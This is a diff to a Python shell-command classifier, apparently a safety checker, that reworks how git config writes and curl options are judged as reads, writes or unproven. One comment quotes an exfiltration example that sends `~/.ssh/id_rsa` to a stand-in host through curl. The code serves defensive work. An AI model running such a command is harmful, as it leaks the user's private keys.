@@ -4078,33 +4078,28 @@ _GIT_CODE_SECTIONS = ("alias.", "includeif.", "include.", "pager.", "filter.", "
 def _git_config_target(words: List[_W]) -> Optional[str]:
     """The config file `git config` writes when it sets a key that names a
     program git runs (core.fsmonitor, alias.x = !cmd, include.path ...);
-    None for other keys and for reads."""
+    None for other keys, for removals and for reads.  Read by the row of
+    git config (_GIT_CONFIG_SETS); a word not written out stays a name."""
     texts = [w.text for w in words]
     if "config" not in texts[1:6]:
         return None
     rest = texts[texts.index("config") + 1:]
+    if any(t in ("--unset", "--unset-all", "--remove-section") for t in rest):
+        return None
+    # Words after a `--` are read as options too: a key found past it is
+    # still named (the wider reading).
+    _, operands, seen = _read_options([_lit(t) for t in rest if t != "--"], _GIT_CONFIG_SETS)
     target = ".git/config"
-    keys = []
-    skip = False
-    for k, t in enumerate(rest):
-        if skip:
-            skip = False
-            continue
-        if t in ("--global",):
-            target = "~/.gitconfig"
-        elif t in ("--system",):
-            target = "/etc/gitconfig"
-        elif t in ("-f", "--file", "--blob"):
-            target = rest[k + 1] if k + 1 < len(rest) else target
-            skip = True
-        elif t.startswith("--file="):
-            target = t.split("=", 1)[1]
-        elif t in ("--get", "--get-all", "--get-regexp", "--list", "-l", "--unset",
-                   "--unset-all", "get", "list", "unset", "--remove-section", "--show-origin",
-                   "--get-urlmatch", "--name-only"):
+    for opt, value, _ in seen:
+        if opt in _GIT_CONFIG_READS or opt in ("show-origin", "name-only"):
             return None
-        elif not t.startswith("-") and t not in ("set",):
-            keys.append(t)
+        if opt in ("f", "file", "blob") and value is not None:
+            target = value.text
+        target = _GIT_CONFIG_FILES.get(opt, target)
+    keys = [w.text for w in operands]
+    if keys[:1] in (["get"], ["list"], ["unset"]):
+        return None
+    keys = keys[1:] if keys[:1] == ["set"] else keys
     if not keys:
         return None
     key = keys[0].lower()
@@ -5244,13 +5239,14 @@ _WRITE_OPTION_PROGRAMS = frozenset((
 # date, rg, fd, tar's listings, the wrappers time, nice, timeout, stdbuf,
 # nohup, xargs and sudo, sed's own options, the modes of the compressors
 # and kill, git's read-only subcommands, git branch, tag and config, go
-# list and gh api (the last five with a small judge of the options met).
+# list, gh api and curl (the last six with a small judge of the options
+# met; curl's write options are also looked for in every word, so that a
+# write is named where the request is not proven: see _curl_writes).
 # Programs that keep code of their own, and why: find, awk, tar, unzip,
-# patch, curl and git's other subcommands have a grammar beyond options
+# patch and git's other subcommands have a grammar beyond options
 # (subcommands, expressions, a program text, mode letters, old-style
-# clusters, curl's words read before its options) or read the values
-# themselves (curl's -w and -H, tar's --use-compress-program); env mixes
-# NAME=VALUE words with its options; base64, lsof and stat refuse a letter
+# clusters) or read the values themselves (tar's --use-compress-program);
+# env mixes NAME=VALUE words with its options; base64, lsof and stat refuse a letter
 # anywhere in a cluster, as GNU and other builds disagree on which letters
 # take values (macOS base64 -o, lsof -D, zsh stat -A); the shell built-ins (cd, read, set,
 # test, printf, ...) decide by what they assign, not by their options;
@@ -7113,6 +7109,12 @@ _GIT_CONFIG = _Opts(
     "--no-includes? --type: --file: --blob: --default:", permute=False, abbrev=False)
 _GIT_CONFIG_READS = frozenset(("l", "get", "get-all", "get-regexp", "list", "get-urlmatch",
                                "get-color", "get-colorbool"))
+# The same options, to name the file a setting lands in (_git_config_target)
+# once the line is known to write: read anywhere, as `set` takes its own
+# after it, and an option the table does not list (--add, --replace-all)
+# taken as a flag.
+_GIT_CONFIG_SETS = _Opts(_GIT_CONFIG.text, abbrev=False, open=True)
+_GIT_CONFIG_FILES = {"global": "~/.gitconfig", "system": "/etc/gitconfig"}
 
 
 def _git_config(args: List[_W]) -> _V:
@@ -10766,40 +10768,74 @@ def _patch_whole(cmd: _Cmd) -> Optional[List[str]]:
     return list(dict.fromkeys(targets))
 
 
-def _curl_writes(args: List[_W]) -> Optional[_V]:
-    texts = [w.text for w in args]
-    for k, t in enumerate(texts):
-        if t in ("-o", "--output") and k + 1 < len(texts):
-            return _write([args[k + 1]]).blame("option", t)
-        if t in ("-D", "--dump-header", "-c", "--cookie-jar", "--output-dir") \
-                and k + 1 < len(texts):
-            return _write([args[k + 1]]).blame("option", t)
-        if t.startswith(("-o", "-D", "-c")) and not t.startswith("--"):
-            return _write([_w_tail(args[k], 2)]).blame("option", t)
-        key = t.split("=", 1)[0]
-        if key in ("--output", "--output-dir", "--dump-header", "--cookie-jar") and "=" in t:
-            return _write([_w_tail(args[k], len(key) + 1)]).blame("option", t)
-        if t in ("-O", "--remote-name", "--remote-name-all", "-J"):
-            # The file is named after the URL (or the server): in the working folder.
-            return _write([_lit(".")] + [_lit("./" + u.rstrip("/").rpartition("/")[2])
-                                         for u in texts if u.startswith(("http://", "https://"))
-                                         and u.rstrip("/").count("/") > 2]).blame("option", t)
-    return None
-
-
-_CURL_SAFE_FLAGS = "sSLIifvkg"
-_CURL_SAFE_LONG = frozenset(("--silent", "--show-error", "--location", "--head", "--include",
-                             "--fail", "--verbose", "--compressed", "--globoff", "--http1.1",
-                             "--http2", "--no-progress-meter", "--fail-with-body"))
-_CURL_SAFE_VALUED = frozenset(("-H", "--header", "-A", "--user-agent", "-m", "--max-time",
-                               "--connect-timeout", "--retry", "-e", "--referer", "-w",
-                               "--write-out", "-r", "--range", "-x", "--proxy", "--noproxy"))
+# curl prints what it fetches.  Its options are read as getopt reads short
+# ones (`-sSLo f`, `-XGET`, `--` ends them), with two differences the row
+# leaves to the judge or to `abbrev`: a long option takes its value only as
+# the next word (curl knows no `--max-time=5`: it stops at it), and curl
+# 7.88 takes any unique prefix of a long option among all of its
+# own, which the row cannot know (abbrev=False: `--user-a` is unproven).  The
+# options that write are looked for in every word (_curl_writes); the rest
+# of the row is what a plain request may carry.
+#: read | curl -sSL https://example.com/a.json
+#: read | curl -sXGET -m5 https://example.com
+#: read | curl -s -- https://example.com
+#: write >f | curl "$url" -o f
+#: write >out.txt | curl -sSLo out.txt https://example.com
+#: write >a >jar | curl -o a -c jar https://example.com
+#: unknown ~read | curl --max-time=5 https://example.com
+#: unknown ~read | curl --request=GET https://example.com
+#: unknown =option_value_missing ~read | curl https://example.com -m
+#: unknown | curl -u user:pass https://example.com
+_CURL = _Opts(
+    "-sSLIifvkgJO -HAmewrxXoDc: --silent=-s --show-error=-S --location=-L --head=-I "
+    "--include=-i --fail=-f --verbose=-v --globoff=-g --remote-header-name=-J "
+    "--remote-name=-O --header=-H --user-agent=-A --max-time=-m --referer=-e "
+    "--write-out=-w --range=-r --proxy=-x --request=-X --output=-o --dump-header=-D "
+    "--cookie-jar=-c --compressed --http1.1 --http2 --no-progress-meter --fail-with-body "
+    "--connect-timeout: --retry: --noproxy: --output-dir: --remote-name-all",
+    write="-o -D -c -O -J --output-dir --remote-name-all", abbrev=False)
 # Methods that only ask; any other (POST, PUT, DELETE, a lower-case `get`,
 # which a server need not read as GET) stays unproven.
 #: read | curl -X GET https://example.com/api
 #: read | curl -sI -x http://proxy:3128 https://example.com
 #: unknown | curl -X DELETE https://example.com/api/1
 _CURL_ASKS = frozenset(("GET", "HEAD"))
+
+
+def _curl_writes(args: List[_W]) -> Optional[_V]:
+    """The files curl writes, by the write options of its row looked for in
+    every word (the scanned effect): a write is named even where a word
+    before it leaves the request unproven (`curl "$url" -o f` writes f) or
+    is another option's value.  None: no word writes."""
+    found: Optional[_V] = None
+    for k, w in enumerate(args):
+        if not w.text.startswith("-"):
+            continue
+        word = [_lit(w.text)]   # a dynamic value (`-o"$f"`) stays in the word: see below
+        fail, _, seen = _read_options(word, _CURL, split_ok=True)
+        if fail is not None and fail.reason == "option_value_missing" and k + 1 < len(args):
+            _, _, seen = _read_options(word + args[k + 1:k + 2], _CURL, split_ok=True)
+        for opt, value, spelled in seen:
+            if _CURL.effect(opt) != "write":
+                continue
+            if value is None:
+                v = _curl_remote_names(args)
+            elif k + 1 < len(args) and value is args[k + 1]:
+                v = _write([value])
+            else:
+                v = _write([_w_tail(w, len(w.text) - len(value.text))])
+            v.blame("option", spelled)
+            found = v if found is None else found.join(v)
+    return found
+
+
+def _curl_remote_names(args: List[_W]) -> _V:
+    """-O, --remote-name-all and -J save a file named after the URL (or by
+    the server): in the working folder."""
+    return _write([_lit(".")] + [_lit("./" + u.rstrip("/").rpartition("/")[2])
+                                 for u in (w.text for w in args)
+                                 if u.startswith(("http://", "https://"))
+                                 and u.rstrip("/").count("/") > 2])
 
 
 def _curl(name: str, args: List[_W], ctx: _Ctx) -> _V:
@@ -10812,37 +10848,22 @@ def _curl(name: str, args: List[_W], ctx: _Ctx) -> _V:
         # A URL, header or agent built from a variable or a substitution
         # sends whatever it holds: `curl "https://x/?d=$(cat ~/.ssh/id_rsa)"`.
         # (An unquoted `?` in a URL is a glob, but it could only match names
-        # under a folder called `https:`, not local data.)
+        # under a folder called `https:`, not local data: split_ok below.)
         return _unknown("network_data_unproven")
-    i = 0
-    while i < len(args):
-        w = args[i]
-        i += 1
-        if w.opaque:
-            return _unknown("shell_syntax_unproven")
-        t = w.text
-        if not t.startswith("-"):
-            if not t.lower().startswith(("http://", "https://")):
-                return _unknown()
-            continue
-        if t in _CURL_SAFE_LONG or (not t.startswith("--") and all(
-                ch in _CURL_SAFE_FLAGS for ch in t[1:])):
-            continue
-        if t in ("-X", "--request") and i < len(args) and args[i].text in _CURL_ASKS:
-            i += 1   # the method a plain request uses anyway, written out
-            continue
-        if t in ("-XGET", "-XHEAD", "--request=GET", "--request=HEAD"):
-            continue
-        if t in _CURL_SAFE_VALUED:
-            value = args[i].text if i < len(args) else ""
-            i += 1
-            # curl 8.3+ writes the rest of -w to a file after %output{FILE};
-            # @FILE reads a format (or, for -H, headers to send) from a file.
-            if value.startswith("@") or "%output" in value.lower():
-                return _unknown()
-            continue
+    fail, operands, seen = _read_options(args, _CURL, split_ok=True)
+    for opt, value, spelled in seen:
+        text = value.text if value is not None else ""
+        if spelled.startswith("--") and "=" in spelled:
+            return _unknown("shell_command_unproven", "option", spelled)
+        if opt == "X" and text not in _CURL_ASKS:
+            return _unknown("shell_command_unproven", "option", spelled)
+        # curl 8.3+ writes the rest of -w to a file after %output{FILE};
+        # @FILE reads a format (or, for -H, headers to send) from a file.
+        if text.startswith("@") or "%output" in text.lower():
+            return _unknown("shell_command_unproven", "option", spelled)
+    if not all(w.text.lower().startswith(("http://", "https://")) for w in operands):
         return _unknown()
-    return _an_read()
+    return fail if fail is not None else _an_read()
 
 
 def _pager(name: str, args: List[_W], ctx: _Ctx) -> _V:
